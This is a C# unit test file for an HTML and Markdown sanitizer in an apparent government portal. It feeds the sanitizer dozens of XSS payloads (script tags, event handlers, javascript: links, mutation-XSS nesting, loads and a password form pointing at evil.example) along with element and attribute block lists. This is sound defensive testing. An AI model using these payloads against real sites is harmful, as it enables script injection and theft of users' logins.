using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using GovPortal.Fields.Safe;

namespace GovPortal.Modules.Tests.Fields;

public sealed class SafeHtmlTests
{
    /// <summary>Ways to run a script, load from elsewhere or hide something, in the spellings attackers use.</summary>
    public static TheoryData<string> Attacks =>
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>", "<img src='javascript:alert(1)'>", "<img src=`javascript:alert(1)`>", "<img src='https://evil.example/p.gif'>",
        "<img src='data:image/svg+xml;base64,PHN2Zz4='>", "<img src='/media/../Admin/Logout'>", "<img src='//evil.example/media/x.png'>",
        "<img src='/media/%2e%2e/Admin'>", "<img src='/media\\..\\Admin'>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
        "<a href='javascript:alert(1)'>x</a>", "<a href='JaVa&#x09;ScRiPt:alert(1)'>x</a>", "<a href='java\nscript:alert(1)'>x</a>",
        "<a href='&#106;&#97;&#118;&#97;script:alert(1)'>x</a>", "<a href='vbscript:x'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='//evil.example'>x</a>", "<a href='https://www.example.gov.cn@evil.example'>x</a>", "<a href='file:///etc/passwd'>x</a>",
        "<p onclick='alert(1)'>x</p>", "<p ONMOUSEOVER=alert(1)>x</p>", "<p/onclick=alert(1)>x</p>", "<p data-secret='身份证号'>x</p>",
        "<iframe src='https://evil.example'></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data='x.swf'></object>",
        "<embed src='x.swf'>", "<form action='https://evil.example'><input name=password></form>", "<button formaction='javascript:alert(1)'>x</button>",
        "<base href='https://evil.example/'>", "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<link rel=stylesheet href='//evil.example/x.css'>",
        "<style>body{display:none}</style>", "<style>@import 'https://evil.example/x.css';</style>", "<template><script>alert(1)</script></template>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
        "<title><img title='</title><img src=x onerror=alert(1)>'></title>", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
        "<video src='x' onerror=alert(1)></video>", "<audio autoplay src='https://evil.example/a.mp3'></audio>", "<details ontoggle=alert(1) open>x</details>",
        "<!-- 内部意见：不予公开 -->", "<!--[if IE]><script>alert(1)</script><![endif]-->", "<marquee onstart=alert(1)>x</marquee>",
        "<isindex type=image src=1 onerror=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select><option onclick=alert(1)>x</option></select>",
        "<table background='javascript:alert(1)'><tr><td>x</td></tr></table>", "<body onload=alert(1)>", "<frameset onload=alert(1)>",
        "<a href='/x' ping='https://evil.example'>x</a>", "<p><svg></p><style><a title='</style><img src=x onerror=alert(1)>'></a></style></svg>",
    ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Nothing_active_or_foreign_comes_through(string html)
    {
        var clean = SafeHtml.Clean("<p>公告</p>" + html);
        var body = new HtmlParser().ParseDocument(clean.Html).Body!;
        Assert.Contains("公告", clean.Html, StringComparison.Ordinal);
        foreach (var element in body.QuerySelectorAll("*"))
        {
            Assert.DoesNotContain(element.LocalName, (string[])["script", "style", "svg", "math", "iframe", "object", "embed", "form", "input", "button", "select", "textarea", "link", "meta", "base", "template", "noscript", "video", "audio", "frameset", "xmp", "title"]);
            foreach (var attribute in element.Attributes)
            {
                Assert.DoesNotContain(attribute.Name, (string[])["style", "srcdoc", "ping", "background", "id", "name"]);
                Assert.False(attribute.Name.StartsWith("on", StringComparison.Ordinal) || attribute.Name.StartsWith("data-", StringComparison.Ordinal));
                if (attribute.Name == "src") Assert.Matches("^/media/[^/.]", attribute.Value);
                if (attribute.Name == "href") Assert.Matches("^(https?://[^/@]+(/|$)|/[^/\\\\]|mailto:|#|[^:/]+($|[/?#]))", attribute.Value);
            }
        }
        Assert.Empty(body.Descendants<AngleSharp.Dom.IComment>());
        Assert.Equal(clean.Html, SafeHtml.Clean(clean.Html).Html);
    }

    [Theory]
    [InlineData("<script>alert(1)</script>", "script")]
    [InlineData("<p onclick=x()>x</p>", "p onclick")]
    [InlineData("<a href='javascript:x'>x</a>", "a href")]
    [InlineData("<img src='https://evil.example/p.gif'>", "img src")]
    [InlineData("<!-- 内部意见 -->", "<!-- -->")]
    [InlineData("<p data-x='1'>x</p>", "p data-x")]
    [InlineData("<iframe src=x></iframe><p>x</p>", "iframe")]
    public void What_is_not_allowed_is_named(string html, string name) => Assert.Equal([name], SafeHtml.Clean(html).Refused);

    [Theory]
    [InlineData("<p>参保企业可申请返还上年度失业保险费。</p>", null)]
    [InlineData("<ol><li>申请</li><li>受理</li></ol>", null)]
    [InlineData("<table><caption>表一</caption><thead><tr><th scope=\"col\" colspan=\"2\">项目</th></tr></thead><tbody><tr><td rowspan=\"2\">甲</td><td>1</td></tr><tr><td>2</td></tr></tbody></table>", null)]
    [InlineData("<p>H<sub>2</sub>O，m<sup>2</sup>，<em>重</em><strong>要</strong></p>", null)]
    [InlineData("<blockquote><p>引文</p></blockquote>", null)]
    [InlineData("<figure><img src=\"/media/a/b.png\" alt=\"流程图\"><figcaption>图一</figcaption></figure>", null)]
    [InlineData("<p class=\"text-center\">落款</p>", null)]
    [InlineData("<p><a href=\"/columns/policy\">栏目</a></p>", null)]
    [InlineData("<p><a href=\"https://www.gov.cn/\" rel=\"noopener\">国务院</a></p>", null)]
    [InlineData("<h1>标题</h1>", "<h2>标题</h2>")]
    [InlineData("<p style=\"text-align: center; color: red\">落款</p>", "<p class=\"text-center\">落款</p>")]
    [InlineData("<p align=right>二〇二六年</p>", "<p class=\"text-end\">二〇二六年</p>")]
    [InlineData("<p style='text-indent:2em'>正文</p>", "<p class=\"indent\">正文</p>")]
    [InlineData("<p class='MsoNormal evil text-end'>x</p>", "<p class=\"text-end\">x</p>")]
    [InlineData("<p class=MsoNormal style='mso-style:x'><font face=仿宋>正<o:p>文</o:p></font></p>", "<p>正文</p>")]
    [InlineData("<a href='https://www.gov.cn/' target=_blank rel=opener>x</a>", "<a href=\"https://www.gov.cn/\" target=\"_blank\" rel=\"noopener\">x</a>")]
    [InlineData("<img src='~/media/a%20b.png'>", "<img src=\"/media/a%20b.png\" alt=\"\">")]
    [InlineData("<td colspan=99999999>x</td>", "x")]
    [InlineData("<p>1 < 2 & 3</p>", "<p>1 &lt; 2 &amp; 3</p>")]
    [InlineData("没有标签", "没有标签")]
    public void What_people_write_stays(string html, string? expected)
    {
        var clean = SafeHtml.Clean(html);
        Assert.Equal(expected ?? html, clean.Html);
        Assert.Empty(clean.Refused);
        Assert.Equal(clean.Html, SafeHtml.Clean(clean.Html).Html);
    }

    [Fact]
    public void The_text_has_a_line_for_each_block_and_a_space_between_cells() =>
        Assert.Equal("一、标准\n返还 30%\n甲 乙\n丙", SafeHtml.Clean("<h2>一、标准</h2><p>返还&nbsp; <b>30%</b></p><table><tr><td>甲</td><td>乙</td></tr></table>丙<script>x</script>").Text);

    [Fact]
    public void Attachments_in_the_text_are_found() =>
        Assert.Equal(["a/图.png", "b.pdf"], SafeHtml.Clean("<img src='/media/a/%E5%9B%BE.png?v=1'><a href='/media/b.pdf#page=2'>x</a><a href='/other/c.pdf'>x</a>").MediaPaths);

    [Theory]
    [InlineData("<div>", 60_000)]
    [InlineData("<b>", 100_000)]
    [InlineData("<blockquote><p>", 20_000)]
    [InlineData("<div><table><tr><td></div></table>", 14_000)]
    [InlineData("<div><!--</div>-->", 20_000)]
    [InlineData("<div><p title='</div>'>", 20_000)]
    [InlineData("<td><li></td><td><dd></td>", 15_000)]
    [InlineData("<svg><![CDATA[></svg>]]>", 20_000)]
    [InlineData("<ul><li>", 40_000)]
    public void Deep_nesting_ends_as_plain_text_and_is_refused(string html, int times)
    {
        var clean = SafeHtml.Clean(string.Concat(Enumerable.Repeat(html, times)) + "公告");
        Assert.True(clean.TooDeep);
        Assert.DoesNotContain("<div><div><div>", clean.Html, StringComparison.Ordinal);
        Assert.Contains("公告", clean.Text, StringComparison.Ordinal);
    }

    [Fact]
    public void A_long_table_and_many_paragraphs_are_no_trouble()
    {
        var rows = string.Concat(Enumerable.Range(1, 3000).Select(i => $"<tr><td>{i}</td><td>甲</td><td>乙</td><td>丙</td><td>1.00</td></tr>"));
        var html = $"<table><tbody>{rows}</tbody></table>" + string.Concat(Enumerable.Repeat("<p>公告</p>", 20_000));
        var clean = SafeHtml.Clean(html);
        Assert.Equal(html, clean.Html);
        Assert.False(clean.TooDeep);
    }

    [Fact]
    public void A_tag_with_thousands_of_attributes_is_not_parsed() =>
        Assert.True(SafeHtml.Clean("<p " + string.Join(' ', Enumerable.Range(0, 50_000).Select(i => "a" + i)) + ">x").TooDeep);

    [Theory]
    [InlineData("[x](javascript:alert(1))")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("![x](https://evil.example/p.gif)")]
    [InlineData("<javascript:alert(1)>")]
    [InlineData("[x]: javascript:alert(1)\n[x]")]
    public void Markdown_brings_nothing_active(string markdown)
    {
        var body = new HtmlParser().ParseDocument(SafeMarkdown.Clean(markdown).Html).Body!;
        Assert.Empty(body.QuerySelectorAll("img,script,a[href^=javascript],[onerror]"));
    }

    [Fact]
    public void Markdown_becomes_headings_emphasis_and_tables()
    {
        var clean = SafeMarkdown.Clean("## 一、返还标准\n\n按 **30%** 返还。\n\n| 企业 | 比例 |\n|---|---|\n| 大型 | 30% |\n\nline <b>raw</b>");
        Assert.Equal("<h2>一、返还标准</h2>\n<p>按 <strong>30%</strong> 返还。</p>", clean.Html[..clean.Html.IndexOf("\n<table", StringComparison.Ordinal)]);
        Assert.Contains("<td>30%</td>", clean.Html, StringComparison.Ordinal);
        Assert.Contains("&lt;b&gt;raw", clean.Html, StringComparison.Ordinal);
        Assert.Empty(clean.Refused);
    }

    [Theory]
    [InlineData(">", 50_000)]
    [InlineData("* ", 30_000)]
    [InlineData("[", 50_000)]
    [InlineData("**a ", 20_000)]
    [InlineData("|a|\n|-|\n", 10_000)]
    public void Hostile_markdown_ends_in_time(string markdown, int times) =>
        Assert.NotNull(SafeMarkdown.Clean(string.Concat(Enumerable.Repeat(markdown, times))).Html);
}
